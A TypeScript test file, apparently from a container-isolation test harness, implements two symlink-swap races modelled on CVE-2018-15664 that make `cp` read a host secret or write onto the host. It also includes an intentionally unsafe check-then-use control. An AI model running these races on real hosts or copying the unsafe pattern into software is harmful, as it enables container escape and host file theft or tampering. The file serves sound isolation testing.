/** `cp`, while the workload changes the ground under it. */

import { lstatSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Failure } from "@bulkhead/sdk";
import { archiveOf, contentsOf } from "../../../src/contract/testkit/archives.ts";
import type { Bed, Target } from "../bed.ts";
import type { Vector } from "../vector.ts";

const FULL = process.env["BULKHEAD_FULL"] === "1";
/** Where the directory is that turns into a link, and back, for each of the two. */
const OUT = "/tmp/copied-out";
const IN = "/tmp/copied-in";
/** Far from enough that they all come to the same side. */
const MOST_TRIES = 2000;

export const COPY_VECTORS: readonly Vector[] = [
  {
    id: "copy-out-race",
    deed: "have `cp` bring it a file of the host's, by a directory that turns into a link to the root meanwhile",
    follows: "CVE-2018-15664",
    attempt: (bed) => swapping(bed, OUT),
    carryOut: (bed, target, script) => whileSwapped(target, { place: OUT, script }, () => copyOut(bed, target)),
    effect: "secret",
    control: { own: (bed, script) => carelessly(bed, { place: OUT, script }, (way) => readFileSync(way + bed.secretFile, "utf8")) },
  },
  {
    id: "copy-in-race",
    deed: "have `cp` write to the host, by a directory that turns into a link to the root meanwhile",
    follows: "CVE-2018-15664",
    attempt: (bed) => swapping(bed, IN),
    carryOut: (bed, target, script) => whileSwapped(target, { place: IN, script }, () => copyIn(bed, target)),
    effect: "mark",
    control: { own: (bed, script) => carelessly(bed, { place: IN, script }, (way) => (writeFileSync(`${way}${bed.marks}/mark`, ""), "written")) },
  },
];

interface Swapping {
  readonly place: string;
  readonly script: string;
}

/** The directory looks as the host's root does, so that each path is there as long as it is no link. */
function swapping(bed: Bed, place: string): string {
  const way = `${place}/way`;
  return `rm -rf ${place}; mkdir -p ${way}${bed.marks}; echo of the workload >${way}${bed.secretFile}; exec swap ${place}`;
}

const begun = (place: string): string => `until [ -e ${place}/swapping ]; do sleep 0.02; done`;

/** Copies while it changes. A boundary without `cp` has nothing to race with. */
async function whileSwapped(target: Target, { place, script }: Swapping, copy: () => Promise<string>): Promise<string> {
  await target.say(`rm -rf ${place}`);
  const swapped = target.say(script);
  await target.say(begun(place));
  const { said, raced } = await race(FULL ? 200 : target.quick ? 20 : 3, copy);
  await target.say(`touch ${place}/enough`);
  said.push(await swapped);
  if (raced === "not at all") throw new Error(`the copies were no race: ${said.slice(-5).join("\n")}`);
  if (raced === undefined) console.log(`escapes: there is no cp behind ${target.isolation}`);
  return said.join("\n");
}

interface Race {
  readonly said: string[];
  readonly raced: "both ways" | "not at all" | undefined;
}

/** Until each way was gone so often: along the directory, and along the link, which leads to a root where nothing lies. */
async function race(wanted: number, copy: () => Promise<string>): Promise<Race> {
  const said: string[] = [];
  let [found, missing] = [0, 0];
  for (let tries = 0; tries < MOST_TRIES; tries++) {
    try {
      said.push(await copy());
      found += 1;
    } catch (thrown) {
      said.push(String(thrown));
      const code = thrown instanceof Failure ? thrown.code : undefined;
      if (code === "UNSUPPORTED") return { said, raced: undefined };
      if (code === "NOT_FOUND") missing += 1;
    }
    if (found >= wanted && missing >= wanted) return { said, raced: "both ways" };
  }
  return { said, raced: "not at all" };
}

async function copyOut(bed: Bed, target: Target): Promise<string> {
  const { archive } = await bed.daemon.client.files.read(target.name, `${OUT}/way${bed.secretFile}`);
  return Object.values(await contentsOf(archive))
    .map(({ text }) => text)
    .join("");
}

async function copyIn(bed: Bed, target: Target): Promise<string> {
  await bed.daemon.client.files.write(target.name, `${IN}/way${bed.marks}`, archiveOf([{ name: "mark", bytes: "" }]));
  return "written";
}

/** What looks from outside for a link on the way, finds none, and then goes by its name: between the two the workload acts. */
async function carelessly(bed: Bed, { place, script }: Swapping, go: (way: string) => string): Promise<string> {
  const target = await bed.raise("container", "control", { UsernsMode: "host" });
  const way = join(`/proc/${(await bed.daemon.client.workloads.inspect("control")).State.Pid}/root`, place, "way");
  const said = new Set<string>();
  let over = false;
  const swapped = target.say(script).finally(() => (over = true));
  await target.say(begun(place));
  const reached = (): boolean => readdirSync(bed.marks).length > 0 || [...said].some((text) => text.includes(bed.secret));
  while (!over && !reached()) {
    for (let times = 0; times < 50; times++) said.add(lookAndGo(way, go));
    await new Promise((resolve) => setImmediate(resolve));
  }
  await target.say(`touch ${place}/enough`);
  return [...said, await swapped].join("\n");
}

function lookAndGo(way: string, go: (way: string) => string): string {
  try {
    return lstatSync(way).isSymbolicLink() ? "a link" : go(way);
  } catch (thrown) {
    return String(thrown); // neither was there, or not any more
  }
}
